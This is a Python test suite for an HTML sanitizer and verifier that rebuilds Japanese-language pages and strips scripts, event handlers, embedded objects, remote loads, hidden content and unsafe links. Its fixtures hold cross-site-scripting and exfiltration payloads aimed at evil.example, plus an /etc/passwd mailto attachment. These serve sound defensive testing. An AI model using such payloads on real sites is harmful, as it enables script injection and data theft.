"""Pages rebuilt: they say the same, nothing acts or loads, Japanese is read; and their reader on its own."""

from __future__ import annotations

import base64
import io
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from sanitizer.formats.base import Change, Job, Rebuilt, Refused
from sanitizer.formats.markup import html
from sanitizer.formats.markup.links import canonical_link
from sanitizer.limits import Limits
from sanitizer.verify import Violation
from sanitizer.verify.markup.html import verify
from sanitizer.verify.markup.values import is_link

HEAD = (
    '<!DOCTYPE html>\n<html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" '
    "content=\"default-src 'none'; img-src data:; style-src 'unsafe-inline'\"><title></title></head><body>"
)
TAIL = "</body></html>\n"
SECRET = "SECRET-PAYLOAD-0123456789"


def rebuilt(page: str | bytes, limits: Limits | None = None) -> Rebuilt:
    data = page.encode() if isinstance(page, str) else page
    made = html.rebuild(data, Job("text/html", "rebuild", "a.html", None, limits or Limits()))
    verify(made.data, Limits())
    return made


def body(page: str | bytes) -> str:
    """What stands between the body's tags."""
    return rebuilt(page).data.decode().partition("<body>")[2].removesuffix(TAIL)


def counts(page: str | bytes) -> dict[str, int]:
    return {change.kind: change.count for change in rebuilt(page).removed}


def picture(kind: str = "PNG") -> str:
    out = io.BytesIO()
    Image.linear_gradient("L").resize((20, 10)).save(out, kind, **({"comment": SECRET} if kind == "GIF" else {}))
    return f"data:image/{kind.lower()};base64,{base64.b64encode(out.getvalue()).decode()}"


def test_a_plain_page_shows_the_same() -> None:
    page = (
        "<!doctype html><html lang=ja><head><title>お知らせ &amp; 案内</title></head><body bgcolor=FFFFFF>"
        "<h1 align=CENTER>休館日</h1><p>次の日は<ruby>休館<rt>きゅうかん</rt></ruby>です。<br>問合せ先</p>"
        "<ul><li>月曜日</ul>"
        "<table border=1><tr><th colspan=2>表<td>値</table><a href='https://example.lg.jp/広報?a=1&amp;b'>公式</a>"
        "<a href=#x>下へ</a><a name=x></a><ol start=3><li value=5>五</ol></body></html>"
    )
    made = rebuilt(page)
    assert (made.removed, made.changed, made.mime) == ([], [], "text/html")
    text = made.data.decode()
    assert '<html lang="ja">' in text and "<title>お知らせ &amp; 案内</title>" in text
    assert '<body bgcolor="#ffffff"><h1 align="center">休館日</h1>' in text
    assert "<ruby>休館<rt>きゅうかん</rt></ruby>" in text
    assert '<table border="1"><tr><th colspan="2">表</th><td>値</td></tr></table>' in text
    assert '<a href="https://example.lg.jp/%E5%BA%83%E5%A0%B1?a=1&amp;b">公式</a>' in text
    assert '<a href="#x">下へ</a><a name="x"></a><ol start="3"><li value="5">五</li></ol>' in text
    assert rebuilt(made.data).data == made.data


@pytest.mark.parametrize(
    ("codec", "charset"),
    [("cp932", "Shift_JIS"), ("cp932", "x-sjis"), ("euc_jp", "EUC-JP"), ("iso2022_jp", "ISO-2022-JP"),
     ("utf-8", "utf-8"),
     ("cp932", ""), ("euc_jp", ""), ("iso2022_jp", ""), ("utf-16", ""), ("utf-8-sig", ""), ("cp932", "utf-8"),
     ("utf-8", "Shift_JIS")],
)  # fmt: skip
def test_japanese_is_read_in_every_encoding(codec: str, charset: str) -> None:
    meta = f"<meta charset={charset}>" if charset else ""
    page = f"<html><head>{meta}</head><body><p>表示と能力、ソフト。ひらがなカタカナ".encode(codec)
    if (codec, charset) == ("utf-8", "Shift_JIS"):
        page += b"x" * (len(page) % 2)
    made = rebuilt(page)
    assert "表示と能力、ソフト。ひらがなカタカナ" in made.data.decode()
    assert [change.kind for change in made.changed] == ([] if codec.startswith("utf-8") else ["encoding"])


def test_damaged_characters_are_shown_as_such_and_counted() -> None:
    made = rebuilt(b"<meta charset=utf-8><p>" + bytes(range(0x80, 0xC0)) * 4)
    assert [change.kind for change in made.changed] == ["damaged-characters"]


@pytest.mark.parametrize(
    ("page", "kind"),
    [
        ("<script>SECRET</script>", "javascript"),
        ("<SCRIPT SRC=//evil.example/SECRET>x</SCRIPT>", "javascript"),
        ("<p onclick='SECRET'>a", "event-handler"),
        ("<img src=x onerror=SECRET>", "event-handler"),
        ("<iframe src=//evil.example/SECRET></iframe>", "embedded-object"),
        ("<iframe srcdoc='&lt;script&gt;SECRET'></iframe>", "embedded-object"),
        ("<object data=SECRET></object>", "embedded-object"),
        ("<embed src=SECRET>", "embedded-object"),
        ("<applet code=SECRET></applet>", "embedded-object"),
        ("<video src=SECRET></video>", "multimedia"),
        ("<form action=//evil.example/SECRET>a<input value=SECRET></form>", "form"),
        ("<meta http-equiv=Refresh content='0;url=//evil.example/SECRET'>", "redirect"),
        ("<base href=//evil.example/SECRET>", "link-target"),
        ("<link rel=stylesheet href=//evil.example/SECRET>", "remote-load"),
        ("<img src=http://evil.example/SECRET>", "remote-load"),
        ("<img srcset='//evil.example/SECRET 2x'>", "remote-load"),
        ("<table background=//evil.example/SECRET>", "remote-load"),
        ("<p style='background:url(//evil.example/SECRET)'>a", "remote-load"),
        ("<style>@import '//evil.example/SECRET';p{color:red}</style>", "remote-load"),
        ("<style>p{width:expression(SECRET())}</style>", "style"),
        ("<p style='behavior:SECRET'>a", "style"),
        ("<a href='javascript:SECRET'>a</a>", "javascript"),
        ("<a href=' java&#9;script:SECRET'>a</a>", "javascript"),
        ("<a href='vbscript:SECRET'>a</a>", "javascript"),
        ("<a href='data:text/html,SECRET'>a</a>", "link-target"),
        ("<a href='file:///SECRET'>a</a>", "link-target"),
        ("<a href='\\\\host\\SECRET'>a</a>", "link-target"),
        ("<a href='ms-word:ofe|SECRET'>a</a>", "link-target"),
        ("<svg><script>SECRET</script></svg>", "vector-drawing"),
        ("<math><mtext>SECRET</mtext></math>", "vector-drawing"),
        ("<!--[if IE]>SECRET<![endif]-->", "comment"),
        ("<p hidden>SECRET", "hidden-content"),
        ("<p style='color:red;DISPLAY : none'>SECRET", "hidden-content"),
        ("<meta name=author content=SECRET>", "document-info"),
        ("<template>SECRET</template>", "unknown-element"),
        ("<img src='data:image/svg+xml,SECRET'>", "image"),
        ("<img src='data:image/png;base64,U0VDUkVU'>", "image"),
    ],
)
def test_what_acts_loads_or_hides_goes_and_is_counted(page: str, kind: str) -> None:
    made = rebuilt(f"<p>kept</p>{page}")
    assert kind in {change.kind for change in made.removed}
    assert b"SECRET" not in made.data and b"evil" not in made.data
    assert b"<p>kept</p>" in made.data


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP"])
def test_pictures_inside_are_rebuilt(kind: str) -> None:
    made = body(f"<img alt='図' width=20 src='{picture(kind)}'>")
    assert made.startswith(f'<img alt="図" src="data:image/{kind.lower()};base64,')
    assert base64.b64encode(SECRET.encode())[:20].decode() not in made


def test_a_picture_from_elsewhere_leaves_its_words() -> None:
    assert body("<img src=a.png alt='庁舎の<写真>'>") == "<span>庁舎の&lt;写真&gt;</span>"


def test_pictures_share_one_limit_of_pixels() -> None:
    other = picture("GIF")
    with pytest.raises(Refused) as refusal:
        rebuilt(f"<img src='{picture()}'><img src='{other}'>", Limits(max_pixels=300))
    assert refusal.value.code == "too-many-pixels"


def test_style_keeps_what_only_looks() -> None:
    page = (
        "<style>/* c */ P.a, #b td { COLOR: Red; font-family: MS Gothic, 'メイリオ', serif; margin: -5px auto }"
        "a:hover{color:blue} @media print{p{color:red}}</style>"
        "<p class='a 1x' style='text-indent:-9999px;font-size:0;FONT-SIZE:12.5pt;position:fixed'>x"
    )
    text = rebuilt(page).data.decode()
    assert "<style>p.a,#b td{color:red;font-family:'MS Gothic','メイリオ',serif;margin:-5px auto}\n</style>" in text
    assert '<p class="a" style="font-size:12.5pt">x</p>' in text
    assert counts(page)["style"] == 5


def test_unknown_elements_give_way_to_their_contents() -> None:
    assert body("<o:p>a</o:p><blink>b</blink><bdo dir=rtl>c</bdo><x-y>d</x-y><label>e</label>") == "abcde"


def test_controls_and_characters_that_reorder_go() -> None:
    page = "<p title='a&#8238;b'>支払&#x202e;000&#0;&#1;\u2066x"
    assert body(page) == '<p title="ab">支払000\ufffdx</p>'
    assert counts(page) == {"control-characters": 1, "bidi-controls": 3}


def test_text_that_looks_like_markup_stays_text() -> None:
    page = (
        "<p>&lt;script&gt;x&lt;/script&gt; &amp;lt; \"'</p><textarea><b>x</textarea><title>&lt;/title><script></title>"
    )
    assert "<p>&lt;script&gt;x&lt;/script&gt; &amp;lt; \"'</p>" in body(page)
    assert "<script" not in rebuilt(page).data.decode()


@pytest.mark.parametrize("data", [b"", b"   \n", b"<!---->"])
def test_nothing_is_refused_as_empty(data: bytes) -> None:
    try:
        made = rebuilt(data)
    except Refused as refusal:
        assert refusal.code == "empty"
        return
    assert made.data.decode() == HEAD + TAIL


def test_a_corrupted_page_is_refused_or_shown_within_its_bounds() -> None:
    with pytest.raises(Refused) as refusal:
        rebuilt("<div>" * 3000 + "deep")
    assert refusal.value.code == "too-deep"
    with pytest.raises(Refused) as refusal:
        rebuilt("<br>" * 2000, Limits(max_objects=1000))
    assert refusal.value.code == "bomb"
    with pytest.raises(Refused) as refusal:
        rebuilt("<p>" + "a" * 2000, Limits(max_output=1000))
    assert refusal.value.code == "output-too-large"


def test_words_can_be_searched() -> None:
    data = rebuilt("<title>題</title><style>p{color:red}</style><h1>見出し</h1><p>本文<b>強調</b></p>").data
    assert html.text(data, Limits()).split() == ["題", "見出し", "本文強調"]
    assert html.thumbnail(data, Limits()) is None


@pytest.mark.parametrize(
    ("address", "link"),
    [
        ("http:///example.jp/x", "http://example.jp/x"),
        ("https://example.jp:8443/a%zz?b#c", "https://example.jp:8443/a%25zz?b#c"),
        ("https://例え.jp/", "https://xn--r8jz45g.jp/"),
        ("mailto:a@example.jp?subject=%E3%81%82&attach=/etc/passwd", "mailto:a@example.jp?subject=%E3%81%82"),
        ("tel:+81 3-1234", "tel:+813-1234"),
        ("https://user@example.jp/", None),
        ("https://[::1]/", None),
        ("//example.jp/", None),
        ("a.html", None),
        ("jav\nascript:alert(1)", None),
        ("https:", None),
    ],
)
def test_links_have_one_reading(address: str, link: str | None) -> None:
    assert canonical_link(address) == link


@given(st.text(max_size=80), st.sampled_from(["", "https://", "http://a.jp/", "mailto:a@b.jp", "tel:", "HTTPS:\\\\"]))
def test_what_is_made_of_a_link_is_one_for_the_verifier(text: str, start: str) -> None:
    link = canonical_link(start + text)
    assert link is None or (is_link(link) and canonical_link(link) == link)


PIECES = [
    "<p>", "</p>", "<b>", "</b>", "<table>", "<tr>", "<td colspan=2>", "</table>", "<svg>", "</svg>", "<math>",
    "<mtext>", "<style>", "</style>", "<script>", "</script>", "<title>", "</title>", "<!--", "-->", "<![CDATA[", "]]>",
    "<a href='", "<img src=x alt='", "'>", '">', "<noscript>", "</noscript>", "<template>", "<select>", "<option>",
    "<textarea>", "text", "&lt;", "&#x202e;", "<p style='color:red;", "url(", "{", "}", "p{color:red}", "<frameset>",
    "<body onload=x>", "\0", "表", "<plaintext>", "<xmp>", "<form>", '<p title="', "&quot;", "<font face='MS 明朝,",
    "<?xml ?>", "<o:p>", "\r", "\ufffe",
]  # fmt: skip


@settings(deadline=None, max_examples=300)
@given(st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=5)), max_size=30))
def test_any_page_becomes_one_of_the_grammar_and_stays_so(pieces: list[str]) -> None:
    try:
        made = rebuilt("".join(pieces).encode("utf-8", "surrogatepass"))
    except Refused as refusal:
        assert refusal.code in ("empty", "too-deep")
        return
    assert b"<script" not in made.data
    again = rebuilt(made.data)
    assert rebuilt(again.data).data == again.data


PAGE = rebuilt(
    "<html lang=ja><title>題</title><style>p.a{color:red}</style><body text=black><p class=a title='x&amp;y'>a<br>b</p>"
    f"<table width=90%><tr><td>表</table><a href=https://example.jp/>l</a><img alt=x src='{picture()}'>"
).data


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("<p ", "<script>x</script><p "),
        ("<br>", "<br/>"),
        ("<br>", "<!-- c -->"),
        ("<br>", "<iframe></iframe>"),
        ("<br>", "<svg></svg>"),
        ("<br>", '<br onclick="x">'),
        ("<br>", '<br class="a" class="b">'),
        ("<br>", '<br title="a" class="b">'),
        ("<br>", "<br title='a'>"),
        ("<br>", "<BR>"),
        ("<br>", "&nbsp;"),
        ("<br>", "&#106;"),
        ("<br>", "&"),
        ("<br>", "<"),
        ("<br>", ">"),
        ("<br>", "<![CDATA[x]]>"),
        ("<br>", "\u202e"),
        ("<br>", "\x00"),
        ("<br>", "\r"),
        ("<br>", "</p>"),
        ("<br>", '<a href="javascript:x">a</a>'),
        ("<br>", '<a href="//example.jp">a</a>'),
        ("<br>", '<img alt="x">'),
        ("<br>", '<img src="https://example.jp/x.png">'),
        ("<br>", '<img src="data:image/svg+xml;base64,PHN2Zz4=">'),
        ("<br>", '<img src="data:image/png;base64,AAAA">'),
        ("<br>", '<p style="background:url(x)"></p>'),
        ("<br>", '<p style="color:red;"></p>'),
        ("<br>", '<p style="margin:0;color:red"></p>'),
        ("<br>", '<p style="display:none"></p>'),
        ("<br>", '<p style="text-indent:-9999px"></p>'),
        ("<br>", '<p style="font-size:0"></p>'),
        ("<br>", '<p style="position:fixed"></p>'),
        ("<br>", '<p style=""></p>'),
        ("{color:red}", "{color:red}@import url(x);"),
        ("{color:red}", "{color:expression(x)}"),
        ("{color:red}\n", "{color:red}"),
        ("p.a{", "p:hover{"),
        ("p.a{", "p>.a{"),
        ("p.a{", ",p{"),
        ("default-src 'none'", "default-src *"),
        ("<!DOCTYPE html>\n", ""),
        ("<!DOCTYPE html>\n", "\ufeff<!DOCTYPE html>\n"),
        ("</html>\n", "</html>\n<p></p>"),
        ("</html>\n", "</html>"),
        ("<title>", '<base href="https://example.jp/"><title>'),
        ("<body ", '<body onload="x" '),
        ('width="90%"', 'width="90%" xmlns="x"'),
    ],
)
def test_what_is_not_in_the_grammar_is_a_violation(before: str, after: str) -> None:
    page = PAGE.decode()
    assert before in page
    with pytest.raises(Violation):
        verify(page.replace(before, after, 1).encode(), Limits())


def test_what_is_cut_too_deep_or_too_much_is_a_violation() -> None:
    for length in range(0, len(PAGE), 7):
        with pytest.raises(Violation):
            verify(PAGE[:length], Limits())
    deep = HEAD + "<b>" * 201 + "</b>" * 201 + TAIL
    for data, limits in (
        (deep.encode(), Limits()),
        (PAGE, Limits(max_objects=3)),
        (PAGE, Limits(max_pixels=10)),
        (PAGE, Limits(max_output=100)),
        (PAGE + b"\xff", Limits()),
    ):
        with pytest.raises(Violation):
            verify(data, limits)
    verify((HEAD + "<b>" * 200 + "</b>" * 200 + TAIL).encode(), Limits())


def test_changed_pages_are_violations_or_harmless() -> None:
    chance = random.Random(3)
    for _ in range(2000):
        changed = bytearray(PAGE)
        changed[chance.randrange(len(changed))] = chance.randrange(256)
        try:
            verify(bytes(changed), Limits())
        except Violation:
            continue
        again = html.rebuild(bytes(changed), Job("text/html", "rebuild", "a.html", None, Limits()))
        assert not {change.kind for change in again.removed} & {
            "javascript",
            "event-handler",
            "embedded-object",
            "form",
        }


def test_every_kind_has_words_in_both_languages() -> None:
    assert all(ja and en and en.isascii() for ja, en in html.KINDS.values())
    assert counts("<script></script>") == {"javascript": 1}
    assert rebuilt("<p>a").changed == list[Change]()
